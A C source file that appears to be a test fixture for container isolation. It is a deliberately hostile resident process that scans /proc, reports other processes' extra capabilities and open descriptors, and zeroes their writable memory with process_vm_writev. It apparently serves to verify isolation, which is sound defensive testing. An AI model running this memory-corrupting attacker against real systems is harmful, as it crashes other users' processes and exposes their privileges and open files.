/* A resident attacker with CAP_SYS_PTRACE over the machine's users: while others come into its container it looks for processes
 * that are not yet programs of its own root, says what they have that it has not (capabilities, descriptors), and writes zeroes
 * over their memory: if that is also somebody else's, he dies of it. Prints each kind of thing once.
 * Ends when /tmp/enough is there. Static; compiled by tests/root/exec.rs. */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <limits.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/uio.h>
#include <unistd.h>

static char zeroes[256 << 10];
static long seen, hit;

static unsigned long long powers(int pid) {
    char path[64], line[256];
    unsigned long long found = 0;
    snprintf(path, sizeof path, "/proc/%d/status", pid);
    FILE *file = fopen(path, "r");
    while (file && fgets(line, sizeof line, file))
        if (sscanf(line, "CapPrm: %llx", &found) == 1)
            break;
    if (file)
        fclose(file);
    return found;
}

static void descriptors(int pid) {
    char path[64], target[PATH_MAX];
    snprintf(path, sizeof path, "/proc/%d/fd", pid);
    DIR *dir = opendir(path);
    for (struct dirent *e; dir && (e = readdir(dir));) {
        ssize_t length = atoi(e->d_name) > 2 ? readlinkat(dirfd(dir), e->d_name, target, sizeof target - 1) : -1;
        if (length > 0) {
            target[length] = 0;
            if (strncmp(target, "pipe:", 5))
                printf("DESCRIPTOR %s\n", target);
        }
    }
    if (dir)
        closedir(dir);
}

static void overwrite(int pid) {
    char path[64], line[PATH_MAX + 128], flags[8];
    unsigned long from, to;
    snprintf(path, sizeof path, "/proc/%d/maps", pid);
    FILE *file = fopen(path, "r");
    while (file && fgets(line, sizeof line, file)) {
        if (sscanf(line, "%lx-%lx %7s", &from, &to, flags) != 3 || flags[1] != 'w')
            continue;
        size_t length = to - from < sizeof zeroes ? to - from : sizeof zeroes;
        struct iovec local = {zeroes, length}, remote = {(void *)(to - length), length};
        hit += process_vm_writev(pid, &local, 1, &remote, 1, 0) > 0;
    }
    if (file)
        fclose(file);
}

int main(void) {
    struct stat own, self, at;
    char path[64];
    setvbuf(stdout, NULL, _IOLBF, 0);
    stat("/bin/busybox", &own);
    stat("/proc/self/exe", &self);
    unsigned long long mine = powers(getpid());
    printf("up\n");
    while (access("/tmp/enough", F_OK)) {
        DIR *dir = opendir("/proc");
        for (struct dirent *e; dir && (e = readdir(dir));) {
            int pid = atoi(e->d_name);
            if (pid <= 0 || pid == getpid())
                continue;
            snprintf(path, sizeof path, "/proc/%d/exe", pid);
            if (stat(path, &at) || (at.st_dev == own.st_dev && at.st_ino == own.st_ino) ||
                (at.st_dev == self.st_dev && at.st_ino == self.st_ino))
                continue;
            seen++;
            if (powers(pid) & ~mine)
                printf("POWERS %llx\n", powers(pid) & ~mine);
            descriptors(pid);
            overwrite(pid);
            snprintf(path, sizeof path, "/tmp/hit.%ld", hit > 3 ? 3 : hit);
            close(open(path, O_CREAT | O_WRONLY, 0600));
        }
        if (dir)
            closedir(dir);
    }
    printf("seen %s hit %s\n", seen ? "some" : "none", hit ? "some" : "none");
    return 0;
}
